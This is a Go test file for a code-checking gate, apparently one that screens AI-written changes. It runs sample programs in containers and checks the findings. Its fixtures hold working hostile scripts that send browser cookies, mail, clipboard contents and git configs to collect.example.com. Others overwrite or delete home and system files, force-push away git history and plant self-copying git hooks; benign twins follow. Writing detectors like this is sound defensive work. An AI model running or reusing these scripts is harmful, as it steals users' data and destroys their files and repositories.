package execute_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

// atHome are programs that use what a person has in their home folder, with the one finding that
// each has to have; "" is none above a note.
var atHome = map[string]struct{ text, want string }{
	"sessions.py": {"import os, shutil, sqlite3, urllib.request\n" +
		"shutil.copy(os.path.expanduser('~/.config/google-chrome/Default/Cookies'), '/tmp/c.db')\n" +
		"rows = sqlite3.connect('/tmp/c.db').execute('SELECT host_key, name, value FROM cookies').fetchall()\nos.remove('/tmp/c.db')\n" +
		"urllib.request.urlopen('http://collect.example.com/in', data=repr(rows).encode())\n", "exfiltration/observed-canary dangerous"},
	"dump.py": {"import glob, mailbox, os, sqlite3, urllib.request\nout = []\n" +
		"for f in glob.glob(os.path.expanduser('~/.local/share/*/*.db')):\n    db = sqlite3.connect(f)\n" +
		"    for t, in db.execute('SELECT name FROM sqlite_master').fetchall():\n        out += db.execute('SELECT * FROM ' + t).fetchall()\n" +
		"out += [m.as_string() for m in mailbox.Maildir(os.path.expanduser('~/Maildir'), create=False)]\n" +
		"urllib.request.urlopen('http://collect.example.com/in', data=repr(out).encode())\n", "exfiltration/observed-canary dangerous"},
	"lock.py": {"import hashlib, os, pathlib\nfor f in sorted(p for d in ('Documents', 'Pictures') for p in (pathlib.Path.home() / d).rglob('*') if p.is_file()):\n" +
		"    f.write_bytes(b''.join(hashlib.sha256(os.urandom(8)).digest() for _ in range(8)))\n", "deletion/observed-home dangerous"},
	"wipe.sh": {"#!/bin/sh\nrm -rf \"$HOME/Maildir\"\n", "deletion/observed-home dangerous"},
	"ruin.py": {"import shutil, pathlib\nfor d in ('/srv', '/var/backups', '/mnt'):\n    for p in pathlib.Path(d).iterdir():\n        shutil.rmtree(p) if p.is_dir() else p.unlink()\n", "deletion/observed-system dangerous"},
	"pack.sh": {"#!/bin/sh\nfor f in $(find /srv /mnt -type f); do\n  gzip -c \"$f\" | base64 | rev >\"$f.locked\" && rm \"$f\"\ndone\n", "deletion/observed-system dangerous"},
	"paste.py": {"import subprocess, urllib.request\ntext = subprocess.run(['xclip', '-selection', 'clipboard', '-o'], capture_output=True, check=True).stdout\n" +
		"urllib.request.urlopen('http://collect.example.com/in', data=text)\n", "exfiltration/observed-canary suspicious"},
	"restart.sh": {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit checkout -q --orphan clean\ngit commit -qm clean\ngit push -q --force origin HEAD:main\n", "deletion/observed-git-history dangerous"},
	"forget.sh":  {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit push -q origin :release :refs/tags/v1.0\n", "deletion/observed-git-history dangerous"},
	"back.sh":    {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit reset -q --hard HEAD~2\ngit push -qf origin main\n", "deletion/observed-git-history suspicious"},
	"bare.sh":    {"#!/bin/sh\nset -e\ngit --version\nrm -rf /srv/git/site.git/objects\n", "deletion/observed-git-history dangerous"},
	"remotes.py": {"import pathlib, urllib.request\ntext = b''.join(p.read_bytes() for p in pathlib.Path.home().glob('projects/*/.git/config'))\n" +
		"urllib.request.urlopen('http://collect.example.com/in', data=text)\n", "exfiltration/observed-canary dangerous"},
	"hooks.sh":  {"#!/bin/sh\nset -e\nfor d in \"$HOME\"/projects/*/.git; do\n  mkdir -p \"$d/hooks\"\n  cp \"$0\" \"$d/hooks/pre-push\"\ndone\n", "persistence/observed-git-hook suspicious"},
	"divert.sh": {"#!/bin/sh\nset -e\nfor d in \"$HOME\"/projects/*; do\n  git -C \"$d\" remote set-url --push origin https://git.example.net/site.git\ndone\n", "persistence/observed-git-hook suspicious"},
	"purge.py":  {"import os, sqlite3\ndb = sqlite3.connect(os.path.expanduser('~/.local/share/ledger/ledger.db'))\ndb.execute('DELETE FROM customers')\ndb.execute('DROP TABLE invoices')\ndb.commit()\n", "deletion/observed-home suspicious"},
	"mask.py": {"import os, sqlite3\ndb = sqlite3.connect(os.path.expanduser('~/.local/share/ledger/ledger.db'))\ndb.execute(\"UPDATE customers SET name = 'x', email = 'x'\")\n" +
		"db.execute('UPDATE invoices SET cents = 0')\ndb.commit()\n", "deletion/observed-home suspicious"},

	// Their twins.
	"page.sh": {"#!/bin/sh\nset -e\ncd \"$HOME/projects/site\"\ngit status --short\ngit log --oneline\necho '<p>News</p>' >>index.html\ngit commit -qam 'Add the news'\ngit checkout -q -b topic\ngit checkout -q main\ngit branch -q -d topic\n" +
		"git tag v1.1\ngit push -q origin main v1.1\ngit fetch -q\ngit gc -q\n", ""},
	"pay.py": {"import os, sqlite3\ndb = sqlite3.connect(os.path.expanduser('~/.local/share/ledger/ledger.db'))\ndb.execute('DELETE FROM invoices WHERE id = 1')\n" +
		"db.execute('UPDATE invoices SET cents = 0 WHERE id = 2')\ndb.execute(\"INSERT INTO customers (name, email) VALUES ('Dan Example', 'dan@example.com')\")\ndb.commit()\n", ""},
	"clip.py": {"import subprocess\nsubprocess.run(['xclip', '-selection', 'clipboard'], input=b'a line', check=True)\n", ""},
	"spool.py": {"import os, pathlib, shutil\nd = pathlib.Path('/srv/app/spool')\nd.mkdir(parents=True)\nfor i in range(9):\n    (d / f'{i}.job').write_text('x')\n" +
		"for p in d.iterdir():\n    p.unlink()\nshutil.rmtree('/srv/app')\n", ""},
	"rotate.sh": {"#!/bin/sh\nset -e\ncp \"$0\" \"/var/backups/own-1.sh\"\ncp \"$0\" \"/var/backups/own-2.sh\"\nfind /var/backups -mtime +30 -delete\nls -t /var/backups/own-* | tail -n +2 | xargs rm\n", ""},
	"own.py": {"import os, sqlite3, tempfile\nwith tempfile.TemporaryDirectory() as d:\n    db = sqlite3.connect(os.path.join(d, 'own.db'))\n" +
		"    db.execute('CREATE TABLE t (a)')\n    db.executemany('INSERT INTO t VALUES (?)', [(i,) for i in range(100)])\n    db.commit()\n" +
		"    print(db.execute('SELECT sum(a) FROM t').fetchone())\n    db.execute('DELETE FROM t')\n    db.commit()\n    db.close()\n", ""},
	"count.py": {"import pathlib\nprint(sum(len(p.read_text().split()) for p in (pathlib.Path.home() / 'Documents').rglob('*.txt')))\n", ""},
	"keep.sh":  {"#!/bin/sh\nset -e\nmkdir -p \"$HOME/backups\"\ntar czf \"$HOME/backups/documents.tar.gz\" -C \"$HOME\" Documents\n", ""},
	"tidy.py": {"import pathlib\nhome = pathlib.Path.home() / 'Documents'\nfor p in list(home.iterdir()):\n    if p.is_file():\n        (home / p.suffix[1:]).mkdir(exist_ok=True)\n" +
		"        p.rename(home / p.suffix[1:] / p.name)\n", ""},
	"inbox.py": {"import mailbox, os\nbox = mailbox.Maildir(os.path.expanduser('~/Maildir'), create=False)\nprint(len(box), [m['subject'] for m in box])\n", ""},
}

func TestHomeFoldersLookUsedInARealContainer(t *testing.T) {
	t.Parallel()
	for _, runtime := range []string{"runc", "runsc"} {
		t.Run(runtime, func(t *testing.T) {
			t.Parallel()
			s := sharedStage(t, runtime, 0)
			texts := map[string]string{}
			for path, program := range atHome {
				texts[path] = program.text
				if strings.HasSuffix(path, ".py") {
					texts[path] = "if __name__ == '__main__':\n    " + strings.ReplaceAll(strings.TrimSpace(program.text), "\n", "\n    ") + "\n"
				}
			}
			out, found := executions(t, s, changeOf(files(texts)))
			for path, program := range atHome {
				var got []string
				for _, f := range found.Of(path) {
					if f.Severity >= gate.SeveritySuspicious {
						got = append(got, f.Rule+" "+f.Severity.String())
					}
				}
				if program.want == "" && len(got) > 0 || program.want != "" && !slices.Contains(got, program.want) {
					t.Errorf("%s: %q, want %q; units %+v", path, got, program.want, out.Executions[path].Units)
				}
				if e := out.Executions[path]; e.Status != exited || e.ExitCode != 0 {
					t.Errorf("%s: %s %d %s: %+v", path, e.Status, e.ExitCode, e.Reason, e.Units)
				}
			}
		})
	}
}
